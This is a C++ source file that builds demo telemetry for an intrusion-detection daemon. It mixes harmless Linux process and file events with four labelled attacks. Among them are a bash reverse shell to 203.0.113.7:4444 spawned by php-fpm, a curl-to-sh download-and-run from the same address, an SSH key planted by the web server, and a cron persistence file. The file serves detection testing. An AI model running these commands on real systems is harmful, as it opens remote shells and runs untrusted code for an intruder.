#include "daemon/demo/story.h"

namespace alarum::demo {
namespace {

StoryEvent process(std::string_view image, std::string_view command, std::string_view parent,
                   std::string_view user) {
  return {{{"event_kind", "process_creation"},
           {"Image", image},
           {"CommandLine", command},
           {"ParentImage", parent},
           {"User", user}}};
}

StoryEvent file(std::string_view image, std::string_view path, std::string_view user) {
  return {{{"event_kind", "file_event"}, {"Image", image}, {"TargetFilename", path}, {"User", user}}};
}

/// Ordinary work; some of it looks like an attack at first sight.
std::vector<StoryEvent> background() {
  return {
      process("/usr/bin/ls", "ls -l /srv/www", "/usr/bin/bash", "anna"),
      process("/usr/bin/bash", "bash -i", "/usr/sbin/sshd", "anna"),
      process("/usr/bin/curl", "curl -fsSLo /tmp/list.json https://example.net/list.json", "/usr/bin/bash",
              "anna"),
      process("/usr/bin/bash", "bash -c curl -s https://example.net/list.json | jq .items", "/usr/sbin/cron",
              "root"),
      process("/usr/bin/bash", "bash -c echo > /dev/tcp/db.internal.example/5432", "/usr/bin/bash", "deploy"),
      process("/usr/bin/dpkg", "dpkg --configure -a", "/usr/bin/apt-get", "root"),
      process("/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx", "www-data"),
      file("/usr/sbin/nginx", "/var/log/nginx/access.log", "www-data"),
      file("/usr/bin/dpkg", "/etc/cron.daily/logrotate.dpkg-new", "root"),
      file("/usr/bin/ssh-copy-id", "/home/anna/.ssh/authorized_keys", "anna"),
      file("/usr/sbin/php-fpm8.2", "/var/www/sessions/sess_1f2d7c", "www-data"),
      file("/usr/bin/vim.basic", "/etc/cron.d/backup", "root"),
  };
}

std::vector<Attack> attacks() {
  return {
      {"reverse-shell",
       "T1059.004",
       "the web server starts a shell that talks to the attacker",
       {process("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "/usr/sbin/php-fpm8.2",
                "www-data")}},
      {"download-and-run",
       "T1105",
       "a script is fetched and run without touching the disk",
       {process("/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.7/x.sh | sh", "/usr/bin/bash",
                "www-data")}},
      {"ssh-key",
       "T1098.004",
       "the web server's interpreter writes itself an SSH key",
       {file("/usr/sbin/php-fpm8.2", "/var/www/.ssh/authorized_keys", "www-data")}},
      {"cron",
       "T1053.003",
       "a shell puts a job where cron runs it",
       {file("/usr/bin/bash", "/etc/cron.d/sysupdate", "root")}},
  };
}

}  // namespace

const Platform& linux_platform() {
  static const Platform platform = {
      "linux", "Computer", {"web-01", "web-02", "jump-01"}, background(), attacks()};
  return platform;
}

}  // namespace alarum::demo
